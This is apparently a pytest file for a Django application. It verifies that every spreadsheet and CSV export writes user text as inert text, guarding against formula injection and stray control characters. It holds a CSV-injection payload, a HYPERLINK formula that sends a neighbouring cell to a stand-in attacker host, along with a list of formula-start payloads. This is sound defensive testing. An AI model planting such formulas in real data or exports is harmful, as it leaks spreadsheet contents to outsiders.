"""Hostile text in every workbook the application writes: shown as text, never evaluated.

Formula injection (OWASP "CSV injection"): a title such as =HYPERLINK("https://…?d="&C2,"klik")
must reach Excel as text, not as a live formula that sends a neighbouring cell to a stranger.
And text stored before input was cleaned (a vertical tab from Word) must not break an export.

The exports are found, not listed: every page without an id in its URL and every object page of
the tenant-isolation test is fetched, and every answer that is a workbook (or a CSV file) is
checked. Every free-text field of every tenant model holds a payload, written past the input
cleaning with a plain UPDATE, as data stored before the cleaning existed would be.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from django.apps import apps
from django.contrib.auth import get_user_model
from django.db import models
from django.db.models.functions import Cast, Concat
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from koersvast.intake.models import Decision
from koersvast.spreadsheets import samples
from koersvast.spreadsheets.constants import XLSX_MIME
from koersvast.spreadsheets.export import FORMULA_STARTS, Column, ColumnType, workbook_bytes
from koersvast.tenancy.choices import Role
from koersvast.tenancy.services import membership_grant
from tests.browser.test_stored_xss import SKIPPED_FIELDS, SKIPPED_MODELS
from tests.core.test_form_fuzz import object_page_urls
from tests.factories import DecisionBodyFactory, InitiativeFactory, UserFactory
from tests.tenancy.test_isolation import objects_of_a as objects_of_a

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?d="&C2,"klik")'
# Longest first; each starts with a character Excel reads as a formula, and carries control
# characters that XML cannot hold (U+000B from Word, U+0001).
PAYLOADS = [f"{FORMULA}\x0b\x01", "=1+1\x0b", "@SUM(1)\x0b", "-2+3\x0b", "+1\x0b", "=\x0b"]
# Not application pages, or they end the session.
NOT_PAGES = {"logout", "set_language", "tenancy:switch", "login"}
NOT_PAGE_PREFIXES = ("admin:", "api:", "odata:")
# The exports known today; the enumeration must find at least these.
KNOWN_EXPORTS = {
    "spreadsheets:export_portfolio",
    "spreadsheets:export_backlog",
    "spreadsheets:export_decisions",
    "spreadsheets:export_members",
    "spreadsheets:export_risks",
    "spreadsheets:export_benefits",
    "spreadsheets:export_programmes",
    "spreadsheets:template",
}
NO_USER_TEXT = {"spreadsheets:template"}  # our own texts only
CSV_TYPES = ("text/csv", "application/csv", "text/comma-separated-values")


def _payload(field: models.Field) -> models.Func:
    room = (field.max_length or 10_000) - len(" #999999")
    text = next(p for p in PAYLOADS if len(p) <= room)
    output = models.TextField() if isinstance(field, models.TextField) else models.CharField()
    return Concat(models.Value(f"{text} #"), Cast("pk", models.CharField()), output_field=output)


def _text_fields(model: type[models.Model]) -> list[models.Field]:
    label = model._meta.label
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not isinstance(field, models.SlugField | models.EmailField | models.URLField)
        and not field.choices
        and f"{label}.{field.name}" not in SKIPPED_FIELDS
    ]


def plant(municipality: Any) -> list[str]:
    """Overwrite every free-text field of the municipality's data; returns the fields."""
    planted = []
    for model in apps.get_models():
        label = model._meta.label
        if not model.__module__.startswith("koersvast.") or label in SKIPPED_MODELS:
            continue
        if "municipality" not in {f.name for f in model._meta.concrete_fields}:
            continue
        fields = _text_fields(model)
        if fields:
            model._base_manager.filter(municipality=municipality).update(
                **{field.name: _payload(field) for field in fields}
            )
            planted += [f"{label}.{field.name}" for field in fields]
    users = get_user_model()
    users.objects.filter(memberships__municipality=municipality).update(
        first_name=_payload(users._meta.get_field("first_name")),
        last_name=_payload(users._meta.get_field("last_name")),
    )
    return planted


def plain_url_names() -> list[str]:
    """Every named URL pattern without parameters (file downloads included)."""
    names: list[str] = []

    def walk(patterns: list[Any], namespace: str) -> None:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                ns = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                walk(pattern.url_patterns, ns)
            elif isinstance(pattern, URLPattern) and pattern.name:
                name = f"{namespace}{pattern.name}"
                if not pattern.pattern.converters and name not in NOT_PAGES:
                    names.append(name)

    walk(get_resolver().url_patterns, "")
    return sorted({n for n in names if not n.startswith(NOT_PAGE_PREFIXES)})


def files_of(client: Client, objects: dict[str, Any]) -> dict[str, tuple[str, bytes]]:
    """URL name → (content type, bytes) of every spreadsheet the user can download."""
    urls = [(name, reverse(name)) for name in plain_url_names()] + object_page_urls(objects)
    found = {}
    for name, url in urls:
        response = client.get(url)
        assert response.status_code < 500, f"{name} {url}: {response.status_code}"
        kind = response.get("Content-Type", "").split(";")[0]
        if response.status_code == 200 and (kind == XLSX_MIME or kind in CSV_TYPES):
            found[name] = (kind, b"".join(response) if response.streaming else response.content)
    return found


def assert_text_only(name: str, content: bytes) -> set[str]:
    """No formula, no illegal character, quote prefix on formula-like text; returns the texts."""
    texts = set()
    workbook = load_workbook(BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{name} {sheet.title}!{cell.coordinate}"
                assert cell.data_type != "f", f"{where} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not ILLEGAL_CHARACTERS_RE.search(cell.value), where
                    if cell.value.startswith(FORMULA_STARTS):
                        assert cell.quotePrefix, f"{where} lacks the quote prefix"
                    texts.add(cell.value)
    return texts


def assert_csv_neutralised(name: str, content: bytes) -> None:
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        for value in row:
            assert not value.startswith(FORMULA_STARTS), f"{name}: {value!r} would be evaluated"


@pytest.fixture
def everyone(municipality: Any) -> Any:
    user = UserFactory(username="alles")
    membership_grant(user=user, municipality=municipality, roles=list(Role))
    return user


def test_every_export_writes_user_text_as_text(municipality, objects_of_a, everyone) -> None:
    initiative = objects_of_a["initiative"]
    Decision.objects.create(
        municipality=municipality,
        initiative=initiative,
        body=DecisionBodyFactory(municipality=municipality),
        outcome="admit",
        rationale="Past in het kader.",
    )
    InitiativeFactory(municipality=municipality, domain=initiative.domain, state="opgenomen")
    planted = plant(municipality)
    assert {"portfolio.Initiative.title", "monitoring.Benefit.name"} <= set(planted)
    initiative.refresh_from_db()
    assert "\x0b" in initiative.title and initiative.title.startswith("=")

    client = Client()
    client.force_login(everyone)
    found = files_of(client, objects_of_a)
    exports = {name for name in plain_url_names() if name.startswith("spreadsheets:export")}
    assert KNOWN_EXPORTS | exports <= set(found), sorted(KNOWN_EXPORTS | exports - set(found))
    for name, (kind, content) in sorted(found.items()):
        if kind in CSV_TYPES:
            assert_csv_neutralised(name, content)
            continue
        texts = assert_text_only(name, content)
        if name not in NO_USER_TEXT:
            # The payload reached the file, as text and without its control characters.
            assert any(text.startswith(("=", "@", "-", "+")) for text in texts), name
    portfolio = assert_text_only("portfolio", found["spreadsheets:export_portfolio"][1])
    # U+000B became a space and U+0001 went; the formula is the cell's text.
    assert f"{FORMULA}  #{initiative.pk}" in portfolio


def test_the_shipped_and_generated_workbooks_are_text_only() -> None:
    for name, content in (
        ("template", samples.template_bytes()),
        ("sample", samples.sample_bytes()),
        ("docs template", (samples.DOCS / "koersvast-sjabloon.xlsx").read_bytes()),
        ("docs sample", (samples.DOCS / "voorbeeld-portfolio.xlsx").read_bytes()),
    ):
        assert_text_only(name, content)


def test_writer_neutralises_every_formula_start() -> None:
    values = ["=1+1", "+1", "-1", "@SUM(1)", "\tx", "\rx", "gewoon", "a\x0bb\x00c"]
    columns = [Column("Tekst", ColumnType.TEXT, lambda v: v)]
    content = workbook_bytes(title="T", columns=columns, rows=values)
    sheet = load_workbook(BytesIO(content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    from openpyxl.xml import LXML

    assert [c.value for c in cells] == [
        "=1+1",
        "+1",
        "-1",
        "@SUM(1)",
        "\tx",
        # With lxml openpyxl writes a carriage return as a character reference; without, XML
        # reads the bare carriage return back as a line feed.
        "\rx" if LXML else "\nx",
        "gewoon",
        "a bc",
    ]
    assert all(c.data_type == "s" for c in cells)
    assert [c.quotePrefix for c in cells] == [True] * 6 + [False, False]
    assert_text_only("writer", content)


def test_a_stored_vertical_tab_no_longer_breaks_the_exports(municipality, pm_client) -> None:
    # Stored before the input was cleaned (or by a path that does not clean).
    from tests.factories import BenefitFactory

    initiative = InitiativeFactory(municipality=municipality, title="Titel\x0bmet regeleinde")
    BenefitFactory(initiative=initiative, name="Baat\x0b")
    for name in ("export_portfolio", "export_benefits", "export_backlog"):
        response = pm_client.get(reverse(f"spreadsheets:{name}"))
        assert response.status_code == 200, name
        assert_text_only(name, response.content)
    sheet = load_workbook(BytesIO(pm_client.get(reverse("spreadsheets:export_portfolio")).content))
    assert sheet.active["B2"].value == "Titel met regeleinde"


SOFFICE = shutil.which("soffice")


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
def test_libreoffice_shows_the_formula_as_text(tmp_path: Path) -> None:
    """LibreOffice, which evaluates formulas on load, keeps the payload as text."""
    columns = [
        Column("Titel", ColumnType.TEXT, lambda v: v[0]),
        Column("X", ColumnType.TEXT, lambda v: v[1]),
    ]
    rows = [(FORMULA, "geheim"), ("=1+1", "")]
    (tmp_path / "export.xlsx").write_bytes(workbook_bytes(title="T", columns=columns, rows=rows))
    subprocess.run(  # noqa: S603 (a fixed command on our own file)
        [
            str(SOFFICE),
            "--headless",
            "--norestore",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--convert-to",
            "csv",
            "--outdir",
            str(tmp_path),
            str(tmp_path / "export.xlsx"),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    shown = list(csv.reader(io.StringIO((tmp_path / "export.csv").read_text("utf-8"))))
    assert shown[1] == [FORMULA, "geheim"]  # the text itself, not the formula's result "klik"
    assert shown[2][0] == "=1+1"  # not 2
